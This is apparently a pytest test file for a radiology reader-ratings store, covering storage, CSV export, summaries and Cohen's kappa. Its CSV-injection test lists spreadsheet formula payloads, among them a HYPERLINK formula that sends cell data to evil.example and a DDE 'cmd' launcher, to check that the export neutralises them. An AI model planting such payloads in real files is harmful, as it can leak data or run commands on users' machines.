"""Reader ratings: storage, replacement, CSV export, summary and Cohen's kappa."""

from __future__ import annotations

import csv
import io
import random
import time

import numpy as np
import pytest
from sklearn.metrics import cohen_kappa_score

from medmodal.serving.ratings import ERROR_TYPES, Rating, RatingStore, kappa_from_counts, summarise_ratings


def kappa_table_ratings(store: RatingStore) -> None:
    """50 shared cases: both yes 20, A yes / B no 5, A no / B yes 10, both no 15.

    p_o = 35/50 = 0.7; A says yes 25/50, B 30/50, so p_e = 0.5*0.6 + 0.5*0.4 = 0.5;
    kappa = (0.7 - 0.5) / (1 - 0.5) = 0.4.
    """
    pairs = [(True, True)] * 20 + [(True, False)] * 5 + [(False, True)] * 10 + [(False, False)] * 15
    for i, (a, b) in enumerate(pairs):
        store.add(Rating(study_id=f"s{i:02d}", reader="alice", acceptable=a))
        store.add(
            Rating(study_id=f"s{i:02d}", reader="bob", acceptable=b, errors=() if b else ("missed_finding",))
        )


def test_kappa_matches_the_hand_computed_value(tmp_path):
    store = RatingStore(tmp_path / "ratings.db")
    kappa_table_ratings(store)
    store.add(Rating(study_id="only-carol", reader="carol", acceptable=True))
    summary = store.summary()
    pair = next(p for p in summary["agreement"] if p["readers"] == ["alice", "bob"])
    assert pair["shared_cases"] == 50
    assert pair["observed_agreement"] == pytest.approx(0.7)
    assert pair["kappa"] == pytest.approx(0.4)
    assert [p["readers"] for p in summary["agreement"]] == [["alice", "bob"]]  # carol shares no case
    assert summary["n_ratings"] == 101
    assert summary["acceptance_rate"] == pytest.approx((25 + 30 + 1) / 101)
    assert summary["error_counts"]["missed_finding"] == 20  # bob's "no" answers
    assert summary["per_reader"]["bob"] == {"n_ratings": 50, "acceptance_rate": pytest.approx(0.6)}


def test_rating_again_replaces_and_survives_reopening(tmp_path):
    url = f"sqlite:///{tmp_path / 'r.db'}"
    store = RatingStore(url)
    store.add(
        Rating(study_id="s1", reader="alice", acceptable=False, errors=("false_finding",), comment="first")
    )
    store.add(Rating(study_id="s1", reader="alice", acceptable=True, comment="second"))
    rows = RatingStore(url).records()  # a new engine: the data is in the database
    assert len(rows) == 1
    assert (
        rows[0]["acceptable"] is True and rows[0]["false_finding"] is False and rows[0]["comment"] == "second"
    )


def test_csv_export(tmp_path):
    store = RatingStore(tmp_path / "r.db")
    store.add(
        Rating(
            study_id="s1",
            reader="alice",
            acceptable=False,
            errors=("wrong_laterality", "wrong_severity"),
            comment='says "left", is right',
        )
    )
    store.add(Rating(study_id="s2", reader="bob", acceptable=True))
    text = store.export_csv(tmp_path / "out.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text())))
    assert text.splitlines() == (tmp_path / "out.csv").read_text().splitlines()
    assert [r["study_id"] for r in rows] == ["s1", "s2"]
    assert rows[0]["wrong_laterality"] == "True" and rows[0]["missed_finding"] == "False"
    assert rows[0]["comment"] == 'says "left", is right'


@pytest.mark.parametrize(
    "rating, words",
    [
        (Rating(study_id="", reader="a", acceptable=True), "'study_id'"),
        (Rating(study_id="s", reader="  ", acceptable=True), "'reader'"),
        (Rating(study_id="s", reader="a", acceptable=True, errors=("typo",)), "unknown error types"),
        (Rating(study_id="s", reader="a", acceptable=True, comment="x" * 6000), "'comment'"),
    ],
)
def test_invalid_ratings_are_refused(tmp_path, rating, words):
    with pytest.raises(ValueError, match=words):
        RatingStore(tmp_path / "r.db").add(rating)


def test_kappa_undefined_when_both_readers_always_agree_on_one_answer():
    records = [
        {
            "study_id": f"s{i}",
            "reader": r,
            "model": "",
            "acceptable": True,
            "missed_finding": False,
            "false_finding": False,
            "wrong_laterality": False,
            "wrong_severity": False,
        }
        for i in range(3)
        for r in ("a", "b")
    ]
    pair = summarise_ratings(records)["agreement"][0]
    assert pair["observed_agreement"] == 1.0 and pair["kappa"] is None


def test_ratings_cli(tmp_path, capsys):
    import json

    from medmodal.cli.main import main

    db = tmp_path / "r.db"
    kappa_table_ratings(RatingStore(db))
    assert main(["ratings-summary", str(db)]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert summary["agreement"][0]["kappa"] == pytest.approx(0.4)
    assert main(["ratings-export", str(db), "--out", str(tmp_path / "r.csv")]) == 0
    assert len((tmp_path / "r.csv").read_text().splitlines()) == 101
    assert main(["ratings-summary", str(tmp_path / "missing.db")]) == 2


# ------------------------------------------------------------- CSV injection
@pytest.mark.parametrize(
    "comment",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "   =1+1",
        "\uff1d1+1",
    ],
)
def test_csv_export_neutralises_formulas(tmp_path, comment):
    store = RatingStore(tmp_path / "r.db")
    store.add(Rating(study_id="=s1", reader="@alice", acceptable=False, comment=comment))
    store.add(Rating(study_id="s2", reader="bob", acceptable=True, comment="plain - text = fine"))
    rows = list(csv.DictReader(io.StringIO(store.export_csv())))
    assert rows[0]["comment"] == "'" + comment  # shown as text by Excel / LibreOffice / Sheets
    assert rows[0]["study_id"] == "'=s1" and rows[0]["reader"] == "'@alice"
    assert rows[1]["comment"] == "plain - text = fine" and rows[1]["study_id"] == "s2"  # untouched
    assert all(line.startswith('"') for line in store.export_csv().split("\r\n")[:-1])  # every cell quoted


# ------------------------------------------------------------ summary at scale
def crossed_records(n_readers: int, per_reader: int = 30, per_case: int = 3, seed: int = 0) -> list[dict]:
    """Each case read by ``per_case`` neighbouring readers, each reader reads ``per_reader`` cases."""
    rng = random.Random(seed)
    records = []
    for case in range(n_readers * per_reader // per_case):
        for k in range(per_case):
            records.append(
                {
                    "study_id": f"s{case}",
                    "reader": f"r{(case * per_case + k) % n_readers:04d}",
                    "model": "m",
                    "acceptable": rng.random() < 0.6,
                    **dict.fromkeys(ERROR_TYPES, False),
                }
            )
    return records


class CountingList(list):
    """A list that counts how often it is iterated."""

    iterations = 0

    def __iter__(self):
        self.iterations += 1
        return super().__iter__()


def test_summary_reads_the_records_once_whatever_the_number_of_readers():
    # The quadratic version scanned every record once per reader and twice per reader pair.
    counts = {}
    for n_readers in (20, 80):
        records = CountingList(crossed_records(n_readers))
        summary = summarise_ratings(records)
        assert len(summary["readers"]) == n_readers
        counts[n_readers] = records.iterations
    assert counts == {20: 1, 80: 1}


@pytest.mark.slow
def test_summary_time_grows_about_linearly_with_readers():
    def cpu_seconds(n_readers: int) -> float:
        records = crossed_records(n_readers)
        best = float("inf")
        for _ in range(3):
            started = time.process_time()
            summarise_ratings(records)
            best = min(best, time.process_time() - started)
        return best

    cpu_seconds(20)  # warm-up (imports)
    small, large = cpu_seconds(200), cpu_seconds(800)  # 4x readers and ratings
    # Linear: ~4x; the old per-pair scan was cubic (~64x). The bound leaves room for a loaded machine.
    assert large / max(small, 1e-3) < 12, (small, large)


def test_pairwise_kappa_matches_sklearn_on_random_answers():
    rng = np.random.default_rng(0)
    records = []
    for reader in range(6):
        bias = rng.uniform(0.2, 0.8)
        for case in rng.choice(40, size=int(rng.integers(5, 40)), replace=False):
            records.append(
                {
                    "study_id": f"s{case}",
                    "reader": f"r{reader}",
                    "model": "",
                    "acceptable": bool(rng.random() < bias),
                    **dict.fromkeys(ERROR_TYPES, False),
                }
            )
    answers = {(r["reader"], r["study_id"]): r["acceptable"] for r in records}
    agreement = summarise_ratings(records)["agreement"]
    assert len(agreement) == 15  # every pair shares cases here
    for pair in agreement:
        a, b = pair["readers"]
        shared = sorted({s for (r, s) in answers if r == a} & {s for (r, s) in answers if r == b})
        ya, yb = [answers[a, s] for s in shared], [answers[b, s] for s in shared]
        assert pair["shared_cases"] == len(shared)
        assert pair["observed_agreement"] == pytest.approx(np.mean(np.equal(ya, yb)))
        assert pair["kappa"] == pytest.approx(cohen_kappa_score(ya, yb), abs=1e-12)


def test_kappa_from_counts_edge_cases():
    assert kappa_from_counts(1, 1, 1, 1) is None  # one shared case
    assert kappa_from_counts(5, 5, 5, 5) is None and kappa_from_counts(5, 5, 0, 0) is None  # one answer only
    assert kappa_from_counts(4, 0, 4, 0) == pytest.approx(cohen_kappa_score([1] * 4, [0] * 4))  # 0.0
    assert kappa_from_counts(4, 4, 2, 2) == pytest.approx(1.0)


def test_summary_of_one_reader_and_of_nothing():
    one = summarise_ratings(crossed_records(1, per_reader=4, per_case=1))
    assert one["readers"] == ["r0000"] and one["agreement"] == [] and one["n_ratings"] == 4
    empty = summarise_ratings([])
    assert empty["n_ratings"] == 0 and empty["acceptance_rate"] is None and empty["agreement"] == []
